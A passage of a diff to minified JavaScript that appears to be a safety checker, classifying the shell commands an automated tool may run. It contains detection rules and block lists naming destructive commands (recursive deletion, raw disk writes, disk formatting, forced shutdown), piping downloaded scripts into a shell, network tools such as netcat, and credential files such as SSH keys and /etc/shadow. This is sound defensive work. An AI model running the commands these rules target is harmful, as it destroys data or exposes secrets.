 ll","npm-run-all2","run-s","run-p"],starts:"npm-scripts",flags:{text:`
         aggregate-output continue-on-error,c max-parallel= print-label,l print-name,n parallel,p
         race,r sequential,s serial silent
-      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],Hh=[{programs:["vitest"],operands:"\
+      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],Wh=[{programs:["vitest"],operands:"\
 text",flags:{text:`
         allowOnly bail= bench browser? browser.~= cache changed? clearScreen
         color compare= coverage coverage.~= diff.~= disableConsoleIntercept exclude= expandSnapshotDiff
@@ -5527,9 +5551,9 @@ wd,C=",preload:"require,r="},match:["npx uvu test"]},{programs:["jasmine"],opera
  filter= filter-path= parallel= random= seed= stop-on-failure= verbose",config:"config=",code:"helper= reporter=",preload:"\
 require=","only-prints":"enumerate list-not-applicable version,v"},refused:{"writes-files":"init examples","only-prints":"\
 help version enumerate"},match:["npx jasmine --random=true"]},{programs:["tsd"],flags:{text:"files,f= show-diff typings,\
-t="},match:["npx tsd"]}],DA=null,xA=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function QN(n){
-const e=new Set([...DA,...Hh.flatMap(({programs:t})=>t)]);return n.some((t,s)=>e.has(t)?!0:xA.has(t)&&/^(?:--)?test$/.test(
-n[s+1]??""))}const ks={flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
+t="},match:["npx tsd"]}],LA=null,jA=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function lF(n){
+const e=new Set([...LA,...Wh.flatMap(({programs:t})=>t)]);return n.some((t,s)=>e.has(t)?!0:jA.has(t)&&/^(?:--)?test$/.test(
+n[s+1]??""))}const Ds={flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
       custom-syntax= env= environment= extends= format= formatter= global-setup= global-teardown= hook~=
       import= load= load-plugins= loader= parser= plugin~= preset~= reporter,reporters= require,r= resolver= rulesdir=
       runner= setup~= test-environment= test-runner= transform= use= cmd= command= eval= init-hook=
@@ -5539,15 +5563,15 @@ uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place o
 napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
 side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
 pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
-rate","writes-files":"clean create eject init new"},unknown:!0},{refused:zh}=ks,OA=[{programs:["next"],alone:"never-ends",
+rate","writes-files":"clean create eject init new"},unknown:!0},{refused:Kh}=Ds,MA=[{programs:["next"],alone:"never-ends",
 ends_with:"build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:[
 "storybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launcher\
-s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...zh,"never-ends":`${zh["never-\
-ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...ks.flags,"neve\
-r-ends":`${ks.flags["never-ends"]} w`}}],AA=vn(ks),SA=vn({...ks,flags:{...ks.flags,code:"custom-syntax= env= environment\
+s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...Kh,"never-ends":`${Kh["never-\
+ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...Ds.flags,"neve\
+r-ends":`${Ds.flags["never-ends"]} w`}}],GA=kn(Ds),HA=kn({...Ds,flags:{...Ds.flags,code:"custom-syntax= env= environment\
 = formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",module:"import= load= lo\
-ad-plugins= loader= plugin~="}}),TA=new Map(OA.flatMap(n=>{const e=vn({...ks,...n});return n.programs.map(t=>[t,e])}));function IA(n){
-return TA.get(n)??AA}const Uh=Md({"outside-code":`
+ad-plugins= loader= plugin~="}}),zA=new Map(MA.flatMap(n=>{const e=kn({...Ds,...n});return n.programs.map(t=>[t,e])}));function UA(n){
+return zA.get(n)??GA}const qh=Jd({"outside-code":`
     bnr bun bunx coffee corepack cross-env-shell deno dotenv dotenv-cli dotenvx env-cmd execa foreman glob
     husky jake lage lerna lint-staged nf node npm npm-watch nps npx nx onchange
     open-cli opener per-env pm2 pnpm pnpx run-script-os run-z rush server-test shx
@@ -5561,174 +5585,174 @@ return TA.get(n)??AA}const Uh=Md({"outside-code":`
     npm-publish patch-package prebuild-install release-it semantic-release surge tiged vercel wrangler
   `,"writes-files":`
     copyfiles cpx cpy cpy-cli del del-cli drizzle-kit knex mkdirp ncp rimraf typeorm
-  `}),Jh=[...Hh,...vA,...EA,..._A,...bA,...kA],Zh=new Map(Jh.flatMap(n=>{const e=vn(n);return n.programs.map(t=>[t,e])}));
-function $A(n){const e=new Map([...n].flatMap(([t,s])=>{const r=Jh.find(({programs:i})=>i.includes(t));return r?[[t,vn(r,
-[s])]]:[]}));return{known:t=>{const s=Zh.has(t)?t:Wh(t);return e.get(s)??Zh.get(s)},refusal:t=>Uh.get(t)??Uh.get(Wh(t)),
-unknown:IA,module:SA}}function Wh(n){return n.replace(/^@[^/]*\//,"")}const RA={archives:os($O),build:uo({cargo:CO,go:yO,
-make:_O}),files:os(RO),git:os(FO),javascript:uo({bun:wO,deno:bO,pnpm:EO,yarn:vO}),network:os(PO),packages:os(LO),php:uo(
-{php:kO,phpunit:DO}),python:[...os(jO),...uo({mypy:TO,pytest:AO,python:OO,ruff:SO,uv:IO})],system:os(MO),text:os(GO)};function uo(n){
+  `}),Yh=[...Wh,...FA,...NA,...RA,...$A,...PA],Vh=new Map(Yh.flatMap(n=>{const e=kn(n);return n.programs.map(t=>[t,e])}));
+function JA(n){const e=new Map([...n].flatMap(([t,s])=>{const r=Yh.find(({programs:i})=>i.includes(t));return r?[[t,kn(r,
+[s])]]:[]}));return{known:t=>{const s=Vh.has(t)?t:Qh(t);return e.get(s)??Vh.get(s)},refusal:t=>qh.get(t)??qh.get(Qh(t)),
+unknown:UA,module:HA}}function Qh(n){return n.replace(/^@[^/]*\//,"")}const ZA={archives:os(JO),build:lo({cargo:SO,go:TO,
+make:RO}),files:os(ZO),git:os(KO),javascript:lo({bun:IO,deno:$O,pnpm:NO,yarn:FO}),network:os(qO),packages:os(YO),php:lo(
+{php:PO,phpunit:LO}),python:[...os(VO),...lo({mypy:zO,pytest:GO,python:MO,ruff:HO,uv:UO})],system:os(QO),text:os(XO)};function lo(n){
 return Object.entries(n).map(([e,t])=>({name:e,evolver:t}))}function os({curated:n,workspace:e,both:t}){const s=(r={},i)=>Object.
-entries(r).map(([o,c])=>({name:o,sandbox:{...c,only:i}}));return[...s(n,"curated"),...s(e,"workspace"),...s(t)]}const Kh=Object.
-entries(RA).flatMap(([n,e])=>e.map(t=>({...t,category:n}))).sort((n,e)=>n.name<e.name?-1:1);let Rc;const qh=new WeakMap;
-function lo(n=[]){if(Rc??=new Map(Kh.map(s=>[s.name,Vh(s)])),n.length===0)return Rc;const e=qh.get(n);if(e!==void 0)return e;
-const t=new Map(Rc);for(const s of n){const r=t.get(s.name);t.set(s.name,{...r,...Vh(s,r?.category)})}return qh.set(n,t),
-t}const Yh="other";function Vh(n,e=Yh){const t=wA.parse(n);return{...t,category:t.category??e}}function XN(n){return[...new Set(
-[...Kh,...n].map(({category:e=Yh})=>e))]}function Bo(n){return[...lo(n).values()].flatMap(e=>{const{evolver:t,name:s}=e;
-return t===void 0?[]:(t.programs??[s]).map(r=>({word:r,family:e,evolver:t}))})}function eF(n){return[...TOOLS.keys(),...Bo(
-n).map(({word:e})=>e)]}function tF(n){const e=Bo(n).flatMap(({word:s,family:r})=>[r.name,s]),t=[...lo(n).values()].filter(
-Qh);return[...new Set([...e,...t.map(({name:s})=>s)])]}function NA(n,{programs:e,families:t}){if(!e.includes(n))return!1;
-const s=lo(t).get(n);return s!==void 0&&Qh(s)}function Qh({evolver:n,sandbox:e}){return n===void 0&&e!==void 0&&e.only!==
-"workspace"&&e.maturity!=="blocked"}function Xh(n,e,t){const s=lo(t).get(e),{only:r=n,curated:i,...o}=s?.sandbox??{};if(!(s?.
-sandbox===void 0||r!==n))return n==="workspace"||i===void 0?{...o,family:s}:{...o,...i,family:s}}function FA({word:n,family:e},t){
-return t.includes(n)||t.includes(e.name)}const ep=new WeakMap;function tp(n){const e=ep.get(n);if(e!==void 0)return e;const{
-programs:t,families:s,tool_flags:r={},make_variables:i=[]}=n,o=new Map,c=new Map;for(const d of t.length===0?[]:Bo(s)){const{
-variables:h}=d.evolver,g=h?{...d.evolver,variables:[...h,...i]}:d.evolver,C=f_(d.word,g,np(r[d.word]));o.set(d.word,C),FA(
-d,t)&&c.set(d.word,C)}let l;const B={tools:$A(new Map(Object.entries(r).map(([d,h])=>[d,np(h)]))),allowed:c,known:o,offered:d=>(l??=
-new Map(Bo(s).map(h=>[h.word,h.family.name])),l.get(d))};return ep.set(n,B),B}function np(n=[]){const e=new Map(n.map(({
+entries(r).map(([o,c])=>({name:o,sandbox:{...c,only:i}}));return[...s(n,"curated"),...s(e,"workspace"),...s(t)]}const Xh=Object.
+entries(ZA).flatMap(([n,e])=>e.map(t=>({...t,category:n}))).sort((n,e)=>n.name<e.name?-1:1);let Nc;const ep=new WeakMap;
+function Bo(n=[]){if(Nc??=new Map(Xh.map(s=>[s.name,np(s)])),n.length===0)return Nc;const e=ep.get(n);if(e!==void 0)return e;
+const t=new Map(Nc);for(const s of n){const r=t.get(s.name);t.set(s.name,{...r,...np(s,r?.category)})}return ep.set(n,t),
+t}const tp="other";function np(n,e=tp){const t=IA.parse(n);return{...t,category:t.category??e}}function dF(n){return[...new Set(
+[...Xh,...n].map(({category:e=tp})=>e))]}function fo(n){return[...Bo(n).values()].flatMap(e=>{const{evolver:t,name:s}=e;
+return t===void 0?[]:(t.programs??[s]).map(r=>({word:r,family:e,evolver:t}))})}function BF(n){return[...TOOLS.keys(),...fo(
+n).map(({word:e})=>e)]}function fF(n){const e=fo(n).flatMap(({word:s,family:r})=>[r.name,s]),t=[...Bo(n).values()].filter(
+sp);return[...new Set([...e,...t.map(({name:s})=>s)])]}function WA(n,{programs:e,families:t}){if(!e.includes(n))return!1;
+const s=Bo(t).get(n);return s!==void 0&&sp(s)}function sp({evolver:n,sandbox:e}){return n===void 0&&e!==void 0&&e.only!==
+"workspace"&&e.maturity!=="blocked"}function rp(n,e,t){const s=Bo(t).get(e),{only:r=n,curated:i,...o}=s?.sandbox??{};if(!(s?.
+sandbox===void 0||r!==n))return n==="workspace"||i===void 0?{...o,family:s}:{...o,...i,family:s}}function KA({word:n,family:e},t){
+return t.includes(n)||t.includes(e.name)}const ip=new WeakMap;function op(n){const e=ip.get(n);if(e!==void 0)return e;const{
+programs:t,families:s,tool_flags:r={},make_variables:i=[]}=n,o=new Map,c=new Map;for(const d of t.length===0?[]:fo(s)){const{
+variables:h}=d.evolver,g=h?{...d.evolver,variables:[...h,...i]}:d.evolver,C=k_(d.word,g,ap(r[d.word]));o.set(d.word,C),KA(
+d,t)&&c.set(d.word,C)}let l;const B={tools:JA(new Map(Object.entries(r).map(([d,h])=>[d,ap(h)]))),allowed:c,known:o,offered:d=>(l??=
+new Map(fo(s).map(h=>[h.word,h.family.name])),l.get(d))};return ip.set(n,B),B}function ap(n=[]){const e=new Map(n.map(({
 flag:s,value:r})=>[qs(s.replace(/^-+/,"")),r])),t=(s,r)=>[...e].flatMap(([i,o])=>o===s?`${i}${r}`:[]);return{text:[...t(
-"none",""),...t("text","=")].join(" "),tests:t("path","=").join(" ")}}const sp={path:"node_modules",at:"anywhere"};function rp(n){
-if(n.programs.length===0)return[sp];const e=[...tp(n).allowed.values()],t=[sp,...e.flatMap(({data:s})=>s.dependencies)];
-return[...new Map(t.map(s=>[`${s.at} ${s.path}`,s])).values()]}function PA(n){return Bh(n.build_outputs,rp(n))}function nF(n){
-return rp(n).flatMap(({at:e,path:t})=>e==="home"?[t]:[])}const as="/\0checkout";function Nc({policy:n,tree:e,platform:t,
-cwd:s=""},r){const{workspace:i}=n,o=LA(n)?as:void 0,{files:c,cwd:l=s===""?o:`${o??i}/${s}`}=r;return{policy:n,platform:t,
-proposal:r,mount:c?{at:"/",tree:c}:e?{at:o??i,tree:e}:{at:as},cwd:l}}function LA({workspace:n}){const e=Er(n,as,{at:as});
-return e!==void 0&&Di(e,as)}class Fc{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:t,platform:s,mount:r}){
+"none",""),...t("text","=")].join(" "),tests:t("path","=").join(" ")}}const cp={path:"node_modules",at:"anywhere"};function up(n){
+if(n.programs.length===0)return[cp];const e=[...op(n).allowed.values()],t=[cp,...e.flatMap(({data:s})=>s.dependencies)];
+return[...new Map(t.map(s=>[`${s.at} ${s.path}`,s])).values()]}function qA(n){return gh(n.build_outputs,up(n))}function hF(n){
+return up(n).flatMap(({at:e,path:t})=>e==="home"?[t]:[])}const as="/\0checkout";function Fc({policy:n,tree:e,platform:t,
+cwd:s=""},r){const{workspace:i}=n,o=YA(n)?as:void 0,{files:c,cwd:l=s===""?o:`${o??i}/${s}`}=r;return{policy:n,platform:t,
+proposal:r,mount:c?{at:"/",tree:c}:e?{at:o??i,tree:e}:{at:as},cwd:l}}function YA({workspace:n}){const e=Er(n,as,{at:as});
+return e!==void 0&&Di(e,as)}class Pc{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:t,platform:s,mount:r}){
 this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=Er(e,as,this.#t)??as,this.cwd=t===void 0?this.
 workspace:Er(t,this.workspace,r)??as}locate(e){return Er(e,this.cwd,this.#e)}leadsInto(e,t){const s=this.locate(e);return s===
 void 0?!1:t.some(r=>{const i=Er(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,t){return Di(e,t,{ignoreCase:this.#s})}mayBeIn(e,t){
-return Di(e,t,{ignoreCase:!0})}}const ip=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,jA=(n,e,t)=>n.some(s=>/^-[A-Za-z]+$/.
-test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&t.startsWith(s.toLowerCase())),MA=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
-GA=n=>n.some((e,t)=>{const s=/^(?:-s|--signal)$/.test(e)?n[t+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
-/^(?:9|(?:sig)?kill)$/i.test(s)}),op=(n,e,t)=>(n==="systemctl"||n==="loginctl")&&e.some(s=>t.test(s)),HA=[{name:"mass_de\
-letion",matches:({program:n,args:e})=>n==="rm"&&jA(e,"rR","--recursive")&&e.some(t=>!t.startsWith("-")&&MA.test(t))},{name:"\
+return Di(e,t,{ignoreCase:!0})}}const lp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,VA=(n,e,t)=>n.some(s=>/^-[A-Za-z]+$/.
+test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&t.startsWith(s.toLowerCase())),QA=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
+XA=n=>n.some((e,t)=>{const s=/^(?:-s|--signal)$/.test(e)?n[t+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
+/^(?:9|(?:sig)?kill)$/i.test(s)}),dp=(n,e,t)=>(n==="systemctl"||n==="loginctl")&&e.some(s=>t.test(s)),eS=[{name:"mass_de\
+letion",matches:({program:n,args:e})=>n==="rm"&&VA(e,"rR","--recursive")&&e.some(t=>!t.startsWith("-")&&QA.test(t))},{name:"\
 raw_disk_write",matches:({program:n,args:e})=>n==="dd"&&e.some(t=>t.startsWith("if=")||/^of=\/dev\//.test(t))},{name:"fi\
 lesystem_format",matches:({program:n})=>/^(?:mkfs(?:\..+)?|mke2fs)$/.test(n)},{name:"direct_disk_write",matches:({program:n,
-args:e})=>n==="tee"&&e.some(t=>ip.test(t))},{name:"world_writable",matches:({program:n,args:e})=>n==="chmod"&&e.some(t=>/^[0-7]{2,4}[2367]$/.
+args:e})=>n==="tee"&&e.some(t=>lp.test(t))},{name:"world_writable",matches:({program:n,args:e})=>n==="chmod"&&e.some(t=>/^[0-7]{2,4}[2367]$/.
 test(t)||/^[ug]*[ao][uoga]*[+=][rxst]*w/.test(t))},{name:"privilege_escalation",matches:({program:n,args:e})=>n==="chown"&&
 e.some(t=>/^\+?(?:root|0+)(?::.*)?$|^:\+?(?:root|0+)$/s.test(t))},{name:"firewall_manipulation",matches:({program:n})=>/^(?:ip6?tables(?:-.+)?|nft|ufw|firewall-cmd)$/.
 test(n)},{name:"system_shutdown",matches:({program:n,args:e})=>/^(?:shutdown|poweroff|halt)$/.test(n)||/^(?:init|telinit)$/.
-test(n)&&e[0]==="0"||op(n,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:n,args:e})=>n==="reboot"||/^(?:init|telinit)$/.
-test(n)&&e[0]==="6"||op(n,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:n,args:e})=>/^(?:kill|pkill|killall)$/.
-test(n)&&GA(e)}],ap=8,zA=4;function Mr(n,e=0,t=new ZA){return Ln(n).flatMap(s=>UA(s,t,e))}function UA(n,e,t){const s=[],
-{words:r}=Wf(n);for(const{operator:l,target:B}of n.redirections)if(l.includes(">")&&B&&ip.test(B.text)){const d=`> ${B.text}`;
-s.push({name:"direct_disk_write",pattern:d,words:[B]})}const i=cp(r),o=e.runBy(n,i);if(o!==void 0){const l=`${o} | ${r[0]?.
-text??""}`;s.push({name:"remote_code_execution",pattern:l,words:r})}const c=new Set;for(const l of i){const B=HA.find(({
+test(n)&&e[0]==="0"||dp(n,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:n,args:e})=>n==="reboot"||/^(?:init|telinit)$/.
+test(n)&&e[0]==="6"||dp(n,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:n,args:e})=>/^(?:kill|pkill|killall)$/.
+test(n)&&XA(e)}],Bp=8,tS=4;function Mr(n,e=0,t=new rS){return Ln(n).flatMap(s=>nS(s,t,e))}function nS(n,e,t){const s=[],
+{words:r}=Qf(n);for(const{operator:l,target:B}of n.redirections)if(l.includes(">")&&B&&lp.test(B.text)){const d=`> ${B.text}`;
+s.push({name:"direct_disk_write",pattern:d,words:[B]})}const i=fp(r),o=e.runBy(n,i);if(o!==void 0){const l=`${o} | ${r[0]?.
+text??""}`;s.push({name:"remote_code_execution",pattern:l,words:r})}const c=new Set;for(const l of i){const B=eS.find(({
 matches:C})=>C(l))?.name;if(B!==void 0){const C=l.words.map(({text:y})=>y).join(" ");s.push({name:B,pattern:C,words:l.words})}
-const h=Lt(l.program)?.kind==="shell"?mc(l.words)?.text:void 0;if(h===void 0||c.has(h)||t===zA)continue;c.add(h);const g=Mr(
-Pn(h),t+1,e);s.push(...g.map(C=>({...C,words:l.words}))),JA.test(h)&&s.push({name:"remote_code_execution",pattern:h,words:l.
-words})}return s}function cp(n){const e=Pc(n,0);if(e===void 0)return[];const t=[e];if(Lt(e.program)?.kind==="wrapper")for(let s=1;s<=
-Math.min(n.length-1,ap);s+=1){const r=Pc(n,s);r!==void 0&&!/^-|=/.test(r.program)&&t.push(r)}if(e.program==="find")for(const[
-s,{text:r}]of n.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?Pc(n,s+1):void 0;if(i!==void 0&&t.push(i),t.length>ap)
-break}return t}function Pc(n,e){const t=n[e];if(t===void 0)return;const s=n.slice(e);return{program:$a(t.text),args:s.slice(
-1).map(({text:r})=>r),words:s}}const JA=/\bdownload(?:string|data)\b/i;class ZA{#e=new Map;#t=new Map;runBy(e,t){const s=(e.
-pipedFrom&&this.#e.get(e.pipedFrom))??WA(e.inside),r=t.find(({program:o})=>up(o));this.#e.set(e,s??r?.program);const i=t.
-flatMap(({program:o,args:c,words:l})=>(fB(o)?c:l.slice(0,1).map(({text:B})=>B)).flatMap(B=>this.#t.get(Lc(B))??[]))[0];return r&&
-this.#s(r,e),t.some(({program:o})=>fB(o))?s??i:i}#s({program:e,args:t},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
-text??[]);for(const i of[...t,...r])!i.startsWith("-")&&Lc(i)!==""&&this.#t.set(Lc(i),e)}}function Lc(n){return n.replace(
-/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function WA(n){return Ln(n).flatMap(({words:e})=>cp(e)).find(({program:e})=>up(e))?.
-program}function up(n){return Lt(n)?.kind==="downloader"}const jc={mass_deletion:"deletes whole directories",raw_disk_write:"\
+const h=Lt(l.program)?.kind==="shell"?gc(l.words)?.text:void 0;if(h===void 0||c.has(h)||t===tS)continue;c.add(h);const g=Mr(
+Pn(h),t+1,e);s.push(...g.map(C=>({...C,words:l.words}))),sS.test(h)&&s.push({name:"remote_code_execution",pattern:h,words:l.
+words})}return s}function fp(n){const e=Lc(n,0);if(e===void 0)return[];const t=[e];if(Lt(e.program)?.kind==="wrapper")for(let s=1;s<=
+Math.min(n.length-1,Bp);s+=1){const r=Lc(n,s);r!==void 0&&!/^-|=/.test(r.program)&&t.push(r)}if(e.program==="find")for(const[
+s,{text:r}]of n.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?Lc(n,s+1):void 0;if(i!==void 0&&t.push(i),t.length>Bp)
+break}return t}function Lc(n,e){const t=n[e];if(t===void 0)return;const s=n.slice(e);return{program:Ra(t.text),args:s.slice(
+1).map(({text:r})=>r),words:s}}const sS=/\bdownload(?:string|data)\b/i;class rS{#e=new Map;#t=new Map;runBy(e,t){const s=(e.
+pipedFrom&&this.#e.get(e.pipedFrom))??iS(e.inside),r=t.find(({program:o})=>hp(o));this.#e.set(e,s??r?.program);const i=t.
+flatMap(({program:o,args:c,words:l})=>(CB(o)?c:l.slice(0,1).map(({text:B})=>B)).flatMap(B=>this.#t.get(jc(B))??[]))[0];return r&&
+this.#s(r,e),t.some(({program:o})=>CB(o))?s??i:i}#s({program:e,args:t},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
+text??[]);for(const i of[...t,...r])!i.startsWith("-")&&jc(i)!==""&&this.#t.set(jc(i),e)}}function jc(n){return n.replace(
+/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function iS(n){return Ln(n).flatMap(({words:e})=>fp(e)).find(({program:e})=>hp(e))?.
+program}function hp(n){return Lt(n)?.kind==="downloader"}const Mc={mass_deletion:"deletes whole directories",raw_disk_write:"\
 overwrites files or disks",filesystem_format:"formats a disk",direct_disk_write:"overwrites a disk",world_writable:"lets\
  every user change files",privilege_escalation:"gives files to the superuser",firewall_manipulation:"changes the firewal\
 l",system_shutdown:"shuts the machine down",system_reboot:"restarts the machine",remote_code_execution:"downloads a scri\
-pt and runs it",force_kill:"kills processes"},KA=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,qA=16*1024;function YA(n){if(n.
-length>qA)return"is too long to check";for(const[,s="",r=""]of n.matchAll(KA))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
-test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return jc.mass_deletion;const e=Pn(n),t=Mr(e).find(({name:s})=>s!=="mass_\
-deletion");return t?jc[t.name]:VA(e)?"pipes text into a shell":void 0}function VA(n){return Ln(n).some(({pipedFrom:e,words:t})=>{
-const[s]=Pr(t);return e!==void 0&&s!==void 0&&Hi(s.text)})}const QA=new Map(Object.entries({"deletes files":"rm rmdir sh\
+pt and runs it",force_kill:"kills processes"},oS=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,aS=16*1024;function cS(n){if(n.
+length>aS)return"is too long to check";for(const[,s="",r=""]of n.matchAll(oS))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
+test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return Mc.mass_deletion;const e=Pn(n),t=Mr(e).find(({name:s})=>s!=="mass_\
+deletion");return t?Mc[t.name]:uS(e)?"pipes text into a shell":void 0}function uS(n){return Ln(n).some(({pipedFrom:e,words:t})=>{
+const[s]=Pr(t);return e!==void 0&&s!==void 0&&zi(s.text)})}const lS=new Map(Object.entries({"deletes files":"rm rmdir sh\
 red truncate unlink","overwrites files or disks":"dd","reaches other machines":"ftp nc ncat netcat rsync scp sftp ssh te\
-lnet","reads the environment":"printenv"}).flatMap(([n,e])=>e.split(" ").map(t=>[t,n]))),XA=2,eS=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
-tS={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
+lnet","reads the environment":"printenv"}).flatMap(([n,e])=>e.split(" ").map(t=>[t,n]))),dS=2,BS=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
+fS={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
 "reads the environment":/\bprocess\s*(?:\?\.|\.|(?:\?\.)?\[\s*\\?['"`])\s*(?:env|binding|dlopen)\b|\benv\b[^}]{0,200}\}\s*=\s*process\b|['"`](?:node:)?process\\?['"`]|\bos\s*\.\s*(?:environ|getenv)\b|\bgetenv\b|[%$@]ENV\b|\bENV\s*[[.]/,
 "deletes files":/\b(?:rm|rmdir|unlink|truncate)(?:Sync)?\s*\(|\bos\s*\.\s*(?:remove|unlink)\b|\bshutil\b/,"uses the netw\
 ork":/\bfetch\s*\(|['"`](?:node:)?(?:dgram|dns|https?|http2|net|tls)\\?['"`]|\b(?:urllib|requests|socket)\b/,"runs text \
-as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function lp(n){if(eS.test(n))return"names \
-a file that is made for secrets";const e=Pn(n),t=Ln(e).some(nS)?Object.entries(tS).find(([,r])=>r.test(n)):void 0;if(t!==
-void 0)return`${t[0]} in inline code`;const[s]=Mr(e);return s?jc[s.name]:dp(e)}function nS({words:n}){return n.some((e,t)=>mc(
-n.slice(t))!==void 0)}function dp(n,e=0){for(const{words:t,pipedFrom:s}of Ln(n)){const[r,...i]=t;if(r===void 0)continue;
-const o=He.posix.basename(r.text),c=Bp(o);if(c!==void 0)return c;if(Hi(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
- run whatever it reads`;if(!(o!=="find"&&!hB(o)))for(const{text:l}of i){const B=Bp(He.posix.basename(l));if(B!==void 0)return B;
-const h=e<XA&&/\s/.test(l)?dp(Pn(l),e+1):void 0;if(h!==void 0)return h}}}function Bp(n){const{kind:e,wraps:t}=Lt(n)??{};
-if(t==="as-user")return`acts as another user with \`${n}\``;const s=e==="downloader"?"downloads":QA.get(n);return s&&`${s}\
- with \`${n}\``}function fp({warnings:n=[],network_touching:e}){return e?["network_touching",...n]:n}function hp(n,e,t=(s,r)=>oo[s](
-r)){if(e.forms!==void 0)return sS(n,e,e.forms,t);if(e.subcommands===void 0)return gp(n,e,t);const[s,...r]=n,i=Object.entries(
-e.subcommands).find(([c])=>c===s?.text)?.[1];if(i!==void 0)return gp(r,{...e,...i},t);const o=`is accepted only with ${mp(
-Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function sS(n,e,t,s){
-const r=`is accepted only as ${mp(Object.keys(t))}`,[i]=n;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
-{word:i}}]};for(const[c,l]of Object.entries(t)){const B=dA($h(c)??[],n,s);if(B===void 0)continue;const d=B.map(({word:g,
+as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function pp(n){if(BS.test(n))return"names \
+a file that is made for secrets";const e=Pn(n),t=Ln(e).some(hS)?Object.entries(fS).find(([,r])=>r.test(n)):void 0;if(t!==
+void 0)return`${t[0]} in inline code`;const[s]=Mr(e);return s?Mc[s.name]:mp(e)}function hS({words:n}){return n.some((e,t)=>gc(
+n.slice(t))!==void 0)}function mp(n,e=0){for(const{words:t,pipedFrom:s}of Ln(n)){const[r,...i]=t;if(r===void 0)continue;
